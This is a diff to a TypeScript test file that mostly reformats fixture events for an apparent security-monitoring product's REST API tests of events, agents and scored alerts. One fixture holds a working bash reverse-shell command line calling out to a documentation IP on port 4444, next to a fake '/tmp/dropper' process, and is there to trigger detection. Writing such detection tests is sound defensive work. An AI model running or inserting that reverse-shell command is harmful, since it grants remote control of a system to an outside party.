@@ -16,9 +16,26 @@ describe("REST: /api/v1/events and /api/v1/agents", () => {
     // 25 events one minute apart; every 5th is an auth event mentioning a distinctive user.
     a.events(1, 25, (seq) => ({
       eventTimeMs: base + seq * 60_000,
-      body: seq % 5 === 0
-        ? { $case: "auth", auth: { action: 2, user: `Mallory${seq}`, targetUser: "", sourceIp: "203.0.113.9", sourcePort: 1, method: "password", pid: 1, service: "sshd", command: "", tty: "", hostname: "web-01", raw: "x" } }
-        : { $case: "agent", agent: { kind: "test", message: `m${seq}`, attributes: {} } },
+      body:
+        seq % 5 === 0
+          ? {
+              $case: "auth",
+              auth: {
+                action: 2,
+                user: `Mallory${seq}`,
+                targetUser: "",
+                sourceIp: "203.0.113.9",
+                sourcePort: 1,
+                method: "password",
+                pid: 1,
+                service: "sshd",
+                command: "",
+                tty: "",
+                hostname: "web-01",
+                raw: "x",
+              },
+            }
+          : { $case: "agent", agent: { kind: "test", message: `m${seq}`, attributes: {} } },
     }));
     await waitFor("ack", () => a.lastAck() === 25);
     a.close();
@@ -159,7 +176,26 @@ describe("REST: /api/v1/alerts?sort=score", () => {
     const t = Date.now() - 3_600_000;
     a.events(1, 2, (seq) => ({
       eventTimeMs: seq === 1 ? t : t + 3_000_000,
-      body: { $case: "process", process: { action: 1, pid: 1000 + seq, ppid: 1, exe: seq === 1 ? "/usr/bin/bash" : "/tmp/dropper", commandLine: seq === 1 ? "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1" : "/tmp/dropper --run", user: "www-data", uid: 33, cwd: "/", startTimeMs: t, sha256: "", parentExe: "", parentCommandLine: "", name: "x", exeDeleted: false, exitCode: 0 } },
+      body: {
+        $case: "process",
+        process: {
+          action: 1,
+          pid: 1000 + seq,
+          ppid: 1,
+          exe: seq === 1 ? "/usr/bin/bash" : "/tmp/dropper",
+          commandLine: seq === 1 ? "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1" : "/tmp/dropper --run",
+          user: "www-data",
+          uid: 33,
+          cwd: "/",
+          startTimeMs: t,
+          sha256: "",
+          parentExe: "",
+          parentCommandLine: "",
+          name: "x",
+          exeDeleted: false,
+          exitCode: 0,
+        },
+      },
     }));
     await waitFor("ack", () => a.lastAck() === 2);
     await ctl.detection.pipeline.idle();
